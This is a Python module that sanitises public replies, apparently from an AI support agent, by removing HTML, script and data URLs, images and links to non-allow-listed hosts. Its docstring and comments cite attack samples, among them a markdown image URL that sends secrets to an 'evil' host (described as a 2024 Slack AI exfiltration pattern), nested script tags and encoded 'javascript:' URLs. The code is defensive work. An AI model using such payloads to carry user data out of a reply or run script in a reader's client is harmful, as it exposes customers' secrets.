"""Output sanitiser for public replies (DESIGN §1 step 6, reliability.md S8). Pure.

A public reply is an egress channel: HTML or script in it can run in a customer's mail client
or help-center widget, and any URL in it — above all an image, which clients fetch without a
click — can carry data out (`![](https://evil/?d=<secrets>)`, the Slack AI 2024 pattern). So the
reply leaves as plain text with markdown links only to hosts we allow-list:

- zero-width and bidi control characters go first, so they cannot hide the rest ("java​script:");
- HTML entities are decoded before anything is matched, so `&#106;avascript:` is caught too;
- HTML comments and <script>/<style>/<iframe>/… elements go with their content; other tags go,
  their text stays;
- markdown images go entirely; links and bare URLs to other hosts lose the URL, keep the text;
- `javascript:`, `vbscript:` and `data:` URLs go wherever they appear.

The passes run until the text stops changing, because removing one construct can assemble
another (`<scr<script></script>ipt>`). Every removal is recorded with what and why, for the
audit and the draft note.
"""
from __future__ import annotations

import html
import re
from dataclasses import dataclass
from urllib.parse import urlsplit

MAX_PASSES = 8


@dataclass(frozen=True)
class Sanitized:
    text: str
    removed: tuple[str, ...] = ()  # "what — why", one per removal

    @property
    def changed(self) -> bool:
        return bool(self.removed)


# Zero-width, bidi embeddings/overrides/isolates, word joiners, BOM, soft hyphen, Mongolian vowel
# separator, and C0/C1 controls other than tab and newline.
INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u00ad\u180e\u034f"
                        "\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_COMMENT = re.compile(r"<!--.*?(?:-->|\Z)", re.S)
_DANGEROUS = "script|style|iframe|frame|frameset|object|embed|noscript|template|svg|math|textarea|xmp|noembed|title"
_ELEMENT = re.compile(rf"<({_DANGEROUS})\b[^>]*>.*?</\1\s*>", re.S | re.I)
_UNCLOSED = re.compile(rf"<({_DANGEROUS})\b.*\Z", re.S | re.I)
# A tag, with quoted attribute values that may themselves hold ">".
# Like browsers, only "<" directly followed by a letter (or "/letter") opens a tag: "a < b" is text.
_TAG = re.compile(r"</?([a-zA-Z][\w:-]*)(?:[^>\"']|\"[^\"]*\"|'[^']*')*>")
_BLOCK_TAGS = {"p", "br", "div", "li", "tr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "table",
               "blockquote", "pre", "hr"}
# A bare `<word>` that no HTML defines is a placeholder in documentation; without attributes it
# can carry no handler, and an HTML renderer would show nothing worse than an unknown element.
_PLACEHOLDER = re.compile(r"<[a-z][a-z0-9_]*>")
_HTML_ELEMENTS = set("""a abbr address area article aside audio b base bdi bdo blockquote body br button canvas
caption cite code col colgroup data datalist dd del details dfn dialog div dl dt em embed fieldset figcaption
figure footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe img input ins kbd label
legend li link main map mark math menu meta meter nav noembed noframes noscript object ol optgroup option output
p param picture plaintext portal pre progress q rp rt ruby s samp script search section select slot small source
span strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track u ul
var video wbr xmp marquee blink font center big tt strike image isindex keygen listing nobr applet basefont
acronym dir spacer multicol""".split())
_STRAY_LT = re.compile(r"<(?=[a-zA-Z/!?])")
_AUTOLINK = re.compile(r"<((?:https?|mailto|ftp):[^>\s]*)>", re.I)
_IMAGE = re.compile(r"!\[[^\]\n]*\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
# The URL may hold one level of balanced parentheses: "(javascript:alert(1))" is one link.
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?((?:[^()\s>]|\([^()\s]*\))*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)")
_REF_DEF = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.M)
# Browsers ignore whitespace inside a scheme name, so "java\nscript:" still runs.
_URL_BODY = r"(?:[^\s()\[\]<>\"'`]|\([^\s()]*\))*"
_SCRIPT_URL = re.compile(rf"(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:{_URL_BODY}", re.I)
_DATA_URL = re.compile(rf"\bdata\s*:\s*[a-z]+/[a-z0-9.+-]+[;,]{_URL_BODY}", re.I)
# Schemes are matched even mid-word ("seehttps://…"): some linkifiers do. Scheme-less "host.tld/path"
# counts as a URL too, since chat widgets linkify it.
_BARE_URL = re.compile(r"(?:(?:https?|ftp)://|/{2,}(?=[\w-]+\.)|\bwww\.|\b(?:[a-z0-9-]+\.)+[a-z]{2,}(?=[/?]))"
                       r"[^\s<>()\[\]\"'`]*", re.I)
_EMBEDDED_HOST = re.compile(r"(?:/{2,}|www\.)((?:[a-z0-9-]+\.)+[a-z]{2,})")
_TRAILING = ".,;:!?*_~'\""


def sanitize(text: str, allowed_hosts: set[str]) -> Sanitized:
    allowed = {h.lower().strip().rstrip(".") for h in allowed_hosts if h and h.strip()}
    removed: list[str] = []
    text = text or ""
    for _ in range(MAX_PASSES):
        before = text
        text = _one_pass(text, allowed, removed)
        if text == before:
            break
    # Belt and braces: if the passes did not settle, break whatever is left rather than send it.
    text, stray = _strip_stray_lt(text, " ")
    if stray:
        removed.append("leftover markup that did not settle")
    for pattern, why in ((re.compile(r"!\["), "image syntax that did not settle"),
                         (_SCRIPT_URL, "script URL that did not settle")):
        if pattern.search(text):
            text = pattern.sub(" ", text)
            removed.append(f"leftover {why}")
    return Sanitized(_whitespace(text), tuple(removed))


def _one_pass(text: str, allowed: set[str], removed: list[str]) -> str:
    def note(what: str, why: str) -> None:
        removed.append(f"{what} — {why}")

    if INVISIBLE.search(text):
        count = len(INVISIBLE.findall(text))
        text = INVISIBLE.sub("", text)
        note(f"{count} invisible character(s) (zero-width, bidi or control)", "they can hide text or reorder it")
    if "&" in text:
        unescaped = html.unescape(text)
        if unescaped != text:
            text = unescaped  # not a removal: decoded so that encoded markup is seen below

    def dropping(kind: str, why: str):
        def drop(m):
            note(f"{kind.format(m.group(1).lower() if m.groups() else '')} {_clip(m.group(0))!r}", why)
            return ""
        return drop

    text = _COMMENT.sub(dropping("HTML comment", "hidden text"), text)
    while _ELEMENT.search(text):  # until none is left: removing one can close up another
        text = _ELEMENT.sub(dropping("<{}> element", "executable or hidden content"), text)
    text = _UNCLOSED.sub(dropping("unclosed <{}> and everything after it", "executable or hidden content"), text)
    text = _AUTOLINK.sub(lambda m: f" {m.group(1)} ", text)
    text = _IMAGE.sub(dropping("image", "images load without a click and can carry data out"), text)
    text = _SCRIPT_URL.sub(dropping("script URL", "it runs code when clicked"), text)
    text = _DATA_URL.sub(dropping("data URL", "it can carry content or data"), text)

    def check_link(m):
        label, url = m.group(1), m.group(2)
        verdict = _url_verdict(url, allowed)
        if verdict is None:
            return m.group(0)
        note(f"link to {_clip(url)!r} (kept its text {_clip(label)!r})", verdict)
        return label
    text = _LINK.sub(check_link, text)

    def check_ref(m):
        verdict = _url_verdict(m.group(1), allowed)
        if verdict is None:
            return m.group(0)
        note(f"link definition {_clip(m.group(0).strip())!r}", verdict)
        return ""
    text = _REF_DEF.sub(check_ref, text)

    def drop_tag(m):
        name = m.group(1).lower()
        if _PLACEHOLDER.fullmatch(m.group(0)) and name not in _HTML_ELEMENTS:
            return m.group(0)  # `<key>` in "Bearer <key>": words, not markup
        note(f"HTML tag {_clip(m.group(0))!r}", "replies are plain text")
        return "\n" if name in _BLOCK_TAGS else ""
    text = _TAG.sub(drop_tag, text)
    text, stray = _strip_stray_lt(text, "")
    if stray:
        note("'<' starting a tag", "replies are plain text")

    def check_bare(m):
        url = m.group(0)
        tail = ""
        while url and url[-1] in _TRAILING:
            url, tail = url[:-1], url[-1] + tail
        verdict = _url_verdict(url, allowed)
        if verdict is None:
            return m.group(0)
        note(f"URL {_clip(url)!r}", verdict)
        return tail
    return _BARE_URL.sub(check_bare, text)


def _strip_stray_lt(text: str, replacement: str) -> tuple[str, bool]:
    """Remove every '<' that could start a tag, except a documentation placeholder's."""
    found = False

    def fix(m):
        nonlocal found
        placeholder = _PLACEHOLDER.match(text, m.start())
        if placeholder and placeholder.group(0)[1:-1] not in _HTML_ELEMENTS:
            return "<"
        found = True
        return replacement
    return _STRAY_LT.sub(fix, text), found


def _url_verdict(url: str, allowed: set[str]) -> str | None:
    """None when the URL may stay; else why it goes."""
    squashed = re.sub(r"\s", "", url).lower()
    if squashed.startswith(("javascript:", "vbscript:")):
        return "it runs code when clicked"
    if squashed.startswith("data:"):
        return "it can carry content or data"
    if squashed.startswith("mailto:"):
        host = squashed[7:].split("?")[0].rpartition("@")[2]
    else:
        if squashed.startswith("www."):
            squashed = "https://" + squashed
        elif squashed.startswith("//"):
            squashed = "https:" + squashed
        try:
            parts = urlsplit(squashed)
            host = (parts.hostname or "") if parts.scheme in ("http", "https") else ""
        except ValueError:
            return "malformed URL"
        if not parts.scheme and not host:
            return "links must be absolute and to an allow-listed host"
        if parts.scheme not in ("http", "https"):
            return f"scheme {parts.scheme!r} is not allowed"
    host = host.rstrip(".")
    if not (host and host_allowed(host, allowed)):
        return f"host {host or '(none)'!r} is not allow-listed"
    # An allowed URL that carries another one ("https://ok.example/r?to=//evil.io") is only as safe
    # as the one it carries: a redirect on our host would forward the customer there.
    rest = squashed.split(host, 1)[-1]
    for inner in _EMBEDDED_HOST.finditer(rest):
        if not host_allowed(inner.group(1).rstrip("."), allowed):
            return f"it carries a link to {inner.group(1)!r}, which is not allow-listed"
    return None


def host_allowed(host: str, allowed: set[str]) -> bool:
    """Exact host or any subdomain of it: 'help.acme.com' passes for 'acme.com'; 'acme.com.evil.io'
    and 'evilacme.com' do not."""
    host = host.lower().rstrip(".")
    return any(host == h or host.endswith("." + h) for h in allowed)


def _whitespace(text: str) -> str:
    """Tidy spacing without flattening structure: line breaks, numbered lists and indentation stay."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", "    ")
    lines = []
    for line in text.split("\n"):
        indent = len(line) - len(line.lstrip(" "))
        body = re.sub(r" {2,}", " ", line.strip(" "))
        lines.append((" " * min(indent, 8) + body) if body else "")
    text = "\n".join(lines)
    text = re.sub(r"\n{3,}", "\n\n", text)
    return text.strip()


def add_ai_label(text: str, label: str) -> str:
    """Append the AI disclosure line (reliability.md S12) unless the reply already carries it."""
    label = label.strip()
    if not label:
        return text
    body = (text or "").rstrip()
    if label in body:
        return body
    return f"{body}\n\n{label}" if body else label


def _clip(text: str, limit: int = 60) -> str:
    text = " ".join(text.split())
    return text if len(text) <= limit else text[: limit - 1] + "…"
